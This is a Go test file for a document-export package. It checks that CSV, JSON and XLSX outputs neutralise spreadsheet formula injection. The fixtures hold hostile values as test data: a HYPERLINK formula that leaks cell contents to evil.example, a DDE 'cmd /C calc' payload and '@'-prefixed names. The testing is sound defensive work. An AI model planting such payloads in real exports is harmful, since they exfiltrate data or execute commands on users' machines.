package export_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"reflect"
	"strconv"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/crescent-idp/crescent/internal/export"
)

const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`

func testSpec() export.Spec {
	return export.Spec{
		Fields: []string{"vendor_name", "invoice_date", "total_amount", "page_count", "note"},
		FieldKinds: map[string]export.Kind{
			"vendor_name": export.KindString, "invoice_date": export.KindDate,
			"total_amount": export.KindAmount, "page_count": export.KindNumber, "note": export.KindString,
			"description": export.KindString, "quantity": export.KindNumber, "net_amount": export.KindAmount,
		},
		LineItemColumns: []string{"description", "quantity", "net_amount"},
	}
}

func str(s string) export.Value { return export.Value{Kind: export.KindString, Text: s, Set: true} }
func day(s string) export.Value { return export.Value{Kind: export.KindDate, Text: s, Set: true} }
func amount(f float64) export.Value {
	return export.Value{Kind: export.KindAmount, Text: strconv.FormatFloat(f, 'f', 2, 64), Number: f, Set: true}
}
func num(f float64) export.Value {
	return export.Value{Kind: export.KindNumber, Text: strconv.FormatFloat(f, 'f', -1, 64), Number: f, Set: true}
}

var created = time.Date(2024, 5, 17, 7, 25, 33, 0, time.UTC)

func testRows() []export.Row {
	return []export.Row{{
		DocumentID: "doc1", CollectionID: "col1", CollectionName: "May invoices", FileName: "a.pdf", Status: "Completed",
		CreatedAt: created,
		Fields: map[string]export.Value{
			"vendor_name": str("ACME GmbH"), "invoice_date": day("2024-05-02"),
			"total_amount": amount(1234.56), "page_count": num(3), "note": str("plain, with \"quotes\"\nand a newline"),
		},
		LineItems: []map[string]export.Value{
			{"description": str("Widget"), "quantity": num(2), "net_amount": amount(1000)},
			{"description": str("-5% discount"), "quantity": num(1), "net_amount": amount(-50.25)},
		},
	}, {
		DocumentID: "doc2", CollectionID: "col1", CollectionName: "=cmd|' /C calc'!A0", FileName: "@evil.pdf", Status: "Completed",
		CreatedAt: created.Add(time.Hour),
		Fields: map[string]export.Value{
			"vendor_name": str(hyperlink), "invoice_date": day("1999-12-31"),
			"total_amount": amount(-99.5), "page_count": num(1), "note": str("+1 555 0100"),
		},
		LineItems: []map[string]export.Value{
			{"description": str("\tTabbed"), "quantity": num(0.5), "net_amount": amount(-99.5)},
		},
	}, {
		// Unset values, a kind taken from the spec, a date that does not parse.
		DocumentID: "doc3", CollectionID: "col2", CollectionName: "Ünïcödé ✓", FileName: "c.png", Status: "Failed",
		Fields: map[string]export.Value{
			"vendor_name":  {Set: false, Text: "ignored"},
			"invoice_date": day("31.12.2024"),
			"total_amount": {Number: 7, Set: true},
		},
	}}
}

func writeAll(t testing.TB, w export.Writer, err error, rows []export.Row) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Errorf("second Close: %v", err)
	}
	if err := w.Write(rows[0]); !errors.Is(err, export.ErrClosed) {
		t.Errorf("Write after Close = %v, want ErrClosed", err)
	}
}

func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	w, err := export.NewCSV(&buf, testSpec())
	writeAll(t, w, err, testRows())

	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	if len(zr.File) != 2 || zr.File[0].Name != "documents.csv" || zr.File[1].Name != "line_items.csv" {
		t.Fatalf("zip entries = %v", zr.File)
	}
	read := func(i int) [][]string {
		rc, err := zr.File[i].Open()
		if err != nil {
			t.Fatal(err)
		}
		defer rc.Close()
		recs, err := csv.NewReader(rc).ReadAll() // also checks the CRC
		if err != nil {
			t.Fatal(err)
		}
		return recs
	}
	wantDocs := [][]string{
		{"document_id", "collection_id", "collection_name", "file_name", "status", "created_at",
			"vendor_name", "invoice_date", "total_amount", "page_count", "note"},
		{"doc1", "col1", "May invoices", "a.pdf", "Completed", "2024-05-17T07:25:33Z",
			"ACME GmbH", "2024-05-02", "1234.56", "3", "plain, with \"quotes\"\nand a newline"},
		{"doc2", "col1", "'=cmd|' /C calc'!A0", "'@evil.pdf", "Completed", "2024-05-17T08:25:33Z",
			"'" + hyperlink, "1999-12-31", "-99.5", "1", "'+1 555 0100"},
		{"doc3", "col2", "Ünïcödé ✓", "c.png", "Failed", "", "", "31.12.2024", "7", "", ""},
	}
	if got := read(0); !reflect.DeepEqual(got, wantDocs) {
		t.Errorf("documents.csv:\n got %q\nwant %q", got, wantDocs)
	}
	wantItems := [][]string{
		{"document_id", "row", "description", "quantity", "net_amount"},
		{"doc1", "1", "Widget", "2", "1000"},
		{"doc1", "2", "'-5% discount", "1", "-50.25"},
		{"doc2", "1", "'\tTabbed", "0.5", "-99.5"},
	}
	if got := read(1); !reflect.DeepEqual(got, wantItems) {
		t.Errorf("line_items.csv:\n got %q\nwant %q", got, wantItems)
	}
}

func TestJSON(t *testing.T) {
	var buf bytes.Buffer
	w, err := export.NewJSON(&buf, testSpec())
	writeAll(t, w, err, testRows())

	var got []map[string]any
	dec := json.NewDecoder(&buf)
	dec.UseNumber()
	if err := dec.Decode(&got); err != nil {
		t.Fatalf("%v in\n%s", err, buf.String())
	}
	want := []map[string]any{{
		"documentId": "doc1", "collectionId": "col1", "collectionName": "May invoices", "fileName": "a.pdf",
		"status": "Completed", "createdAt": "2024-05-17T07:25:33Z",
		"fields": map[string]any{"vendor_name": "ACME GmbH", "invoice_date": "2024-05-02",
			"total_amount": json.Number("1234.56"), "page_count": json.Number("3"), "note": "plain, with \"quotes\"\nand a newline"},
		"lineItems": []any{
			map[string]any{"description": "Widget", "quantity": json.Number("2"), "net_amount": json.Number("1000")},
			map[string]any{"description": "-5% discount", "quantity": json.Number("1"), "net_amount": json.Number("-50.25")},
		},
	}, {
		"documentId": "doc2", "collectionId": "col1", "collectionName": "=cmd|' /C calc'!A0", "fileName": "@evil.pdf",
		"status": "Completed", "createdAt": "2024-05-17T08:25:33Z",
		"fields": map[string]any{"vendor_name": hyperlink, "invoice_date": "1999-12-31",
			"total_amount": json.Number("-99.5"), "page_count": json.Number("1"), "note": "+1 555 0100"},
		"lineItems": []any{
			map[string]any{"description": "\tTabbed", "quantity": json.Number("0.5"), "net_amount": json.Number("-99.5")},
		},
	}, {
		"documentId": "doc3", "collectionId": "col2", "collectionName": "Ünïcödé ✓", "fileName": "c.png",
		"status": "Failed", "createdAt": nil,
		"fields": map[string]any{"vendor_name": nil, "invoice_date": "31.12.2024",
			"total_amount": json.Number("7"), "page_count": nil, "note": nil},
		"lineItems": []any{},
	}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("JSON:\n got %#v\nwant %#v", got, want)
	}
	// Fields keep the order of the spec.
	if i, j := bytes.Index(buf.Bytes(), []byte(`"vendor_name"`)), bytes.Index(buf.Bytes(), []byte(`"note"`)); i > j {
		t.Errorf("fields out of spec order")
	}
}

func TestJSONEmpty(t *testing.T) {
	var buf bytes.Buffer
	w, _ := export.NewJSON(&buf, testSpec())
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if buf.String() != "[]\n" {
		t.Errorf("empty export = %q", buf.String())
	}
}

func TestXLSX(t *testing.T) {
	var buf bytes.Buffer
	w, err := export.NewXLSX(&buf, testSpec())
	writeAll(t, w, err, testRows())

	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); !reflect.DeepEqual(got, []string{export.SheetDocuments, export.SheetLineItems}) {
		t.Fatalf("sheets = %q", got)
	}
	for _, sheet := range f.GetSheetList() {
		p, err := f.GetPanes(sheet)
		if err != nil || !p.Freeze || p.YSplit != 1 || p.XSplit != 0 {
			t.Errorf("%s: panes = %+v, %v; want the header row frozen", sheet, p, err)
		}
	}

	// cell is the raw value, the type and the number format of one cell.
	type cell struct {
		raw    string
		typ    excelize.CellType
		numFmt string // "" general, else the custom format or "builtin N"
	}
	get := func(sheet, ref string) cell {
		t.Helper()
		raw, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		typ, err := f.GetCellType(sheet, ref)
		if err != nil {
			t.Fatal(err)
		}
		c := cell{raw: raw, typ: typ}
		id, err := f.GetCellStyle(sheet, ref)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		switch {
		case st.CustomNumFmt != nil:
			c.numFmt = *st.CustomNumFmt
		case st.NumFmt != 0:
			c.numFmt = "builtin " + strconv.Itoa(st.NumFmt)
		}
		return c
	}
	text := func(s string) cell { return cell{raw: s, typ: excelize.CellTypeInlineString} }
	numeric := func(s, numFmt string) cell { return cell{raw: s, typ: excelize.CellTypeUnset, numFmt: numFmt} }
	empty := cell{}

	// Excel serials: 2024-05-02 is 45414, 1999-12-31 is 36525, 07:25:33 is
	// 26733/86400 of a day.
	wantDocs := map[string]cell{
		"A1": text("document_id"), "G1": text("vendor_name"), "K1": text("note"),
		"A2": text("doc1"), "C2": text("May invoices"), "E2": text("Completed"),
		"F2": numeric("45429.30940972222", "yyyy-mm-dd hh:mm:ss"),
		"G2": text("ACME GmbH"), "H2": numeric("45414", "yyyy-mm-dd"),
		"I2": numeric("1234.56", "builtin 4"), "J2": numeric("3", ""),
		"C3": text("'=cmd|' /C calc'!A0"), "D3": text("'@evil.pdf"),
		"G3": text("'" + hyperlink), "H3": numeric("36525", "yyyy-mm-dd"),
		"I3": numeric("-99.5", "builtin 4"), "K3": text("'+1 555 0100"),
		"C4": text("Ünïcödé ✓"), "F4": empty, "G4": empty, "H4": text("31.12.2024"),
		"I4": numeric("7", "builtin 4"), "J4": empty, "K4": empty,
	}
	for ref, want := range wantDocs {
		if got := get(export.SheetDocuments, ref); got != want {
			t.Errorf("Documents!%s = %+v, want %+v", ref, got, want)
		}
	}
	// A formula would show up here; the malicious text must be plain text.
	if formula, _ := f.GetCellFormula(export.SheetDocuments, "G3"); formula != "" {
		t.Errorf("G3 carries formula %q", formula)
	}
	rows, err := f.GetRows(export.SheetDocuments)
	if err != nil || len(rows) != 4 {
		t.Errorf("Documents has %d rows, %v; want 4", len(rows), err)
	}

	wantItems := map[string]cell{
		"A1": text("document_id"), "B1": text("row"), "E1": text("net_amount"),
		"A2": text("doc1"), "B2": numeric("1", ""), "C2": text("Widget"), "D2": numeric("2", ""), "E2": numeric("1000", "builtin 4"),
		"A3": text("doc1"), "B3": numeric("2", ""), "C3": text("'-5% discount"), "E3": numeric("-50.25", "builtin 4"),
		"A4": text("doc2"), "C4": text("'\tTabbed"), "D4": numeric("0.5", ""), "E4": numeric("-99.5", "builtin 4"),
		"A5": empty,
	}
	for ref, want := range wantItems {
		if got := get(export.SheetLineItems, ref); got != want {
			t.Errorf("Line items!%s = %+v, want %+v", ref, got, want)
		}
	}
}

func TestSanitize(t *testing.T) {
	for in, want := range map[string]string{
		"":            "",
		"plain":       "plain",
		"=1+2":        "'=1+2",
		"+49 30 1234": "'+49 30 1234",
		"-3":          "'-3",
		"@SUM(A1)":    "'@SUM(A1)",
		"\tx":         "'\tx",
		"\rx":         "'\rx",
		" =1":         " =1",
		"a=b":         "a=b",
		"'=already":   "'=already",
	} {
		if got := export.Sanitize(in); got != want {
			t.Errorf("Sanitize(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestNew(t *testing.T) {
	for _, format := range []string{"csv", "json", "xlsx"} {
		w, err := export.New(format, io.Discard, testSpec())
		if err != nil {
			t.Fatalf("%s: %v", format, err)
		}
		if err := w.Close(); err != nil {
			t.Errorf("%s: Close: %v", format, err)
		}
		if export.ContentType(format) == "" {
			t.Errorf("%s: no content type", format)
		}
	}
	if _, err := export.New("pdf", io.Discard, testSpec()); err == nil {
		t.Error("New(pdf) succeeded")
	}
}

// failingWriter fails every write after the first n bytes.
type failingWriter struct{ n int }

var errDisk = errors.New("disk full")

func (f *failingWriter) Write(p []byte) (int, error) {
	if len(p) > f.n {
		n := f.n
		f.n = 0
		return n, errDisk
	}
	f.n -= len(p)
	return len(p), nil
}

func TestWriteErrors(t *testing.T) {
	for _, format := range []string{"csv", "json", "xlsx"} {
		w, err := export.New(format, &failingWriter{n: 100}, testSpec())
		if err != nil {
			t.Fatalf("%s: %v", format, err)
		}
		for range 2000 {
			if err = w.Write(testRows()[0]); err != nil {
				break
			}
		}
		if cerr := w.Close(); err == nil {
			err = cerr
		}
		if !errors.Is(err, errDisk) {
			t.Errorf("%s: error = %v, want the output's error", format, err)
		}
	}
}
